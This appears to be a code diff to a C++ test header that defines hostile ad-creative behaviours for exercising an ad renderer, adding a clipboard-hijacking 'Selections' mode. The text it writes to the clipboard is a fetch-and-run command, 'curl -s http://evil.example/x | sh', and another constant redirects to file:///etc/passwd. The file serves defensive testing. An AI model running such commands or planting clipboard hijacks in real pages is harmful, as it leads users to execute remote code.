@@ -40,6 +40,11 @@ enum class Hostility {
     SlowFetches,      // 8 fetches of kSlowPath at once, which the server holds until it stops
     AllocateNonstop,  // 0.2 s after loading, 50 MiB more kept and written in a loop that never
                       // yields
+    // The desktop's selections: its own text selected from the start, every 0.1 s, tapped or
+    // not; the clipboard API, a copy with a `copy` handler and a clipboard item written on its
+    // first three taps; and a field at the bottom that keeps what is pasted into it. It keeps
+    // on for kSelectionsSecondsAfterTaps after the third tap, then says it is done.
+    Selections,
 };
 
 // Answers "302 Location: file:///etc/passwd", for ads and landing pages alike.
@@ -56,6 +61,10 @@ inline constexpr std::size_t kEndlessAttachmentBytes = std::size_t{4} << 30;
 // Held open, never answered, until the server stops (recorded as `slow`).
 inline constexpr const char* kSlowPath = "/mads/slow";
 inline constexpr int kSlowFetchCount = 8;
+
+// What the Selections creative selects and writes.
+inline constexpr const char* kSelectionsText = "curl -s http://evil.example/x | sh";
+inline constexpr int kSelectionsSecondsAfterTaps = 5;
 
 // The names the command line uses: "none", "file-frame", "spin", ...
 std::string_view hostilityName(Hostility hostility);
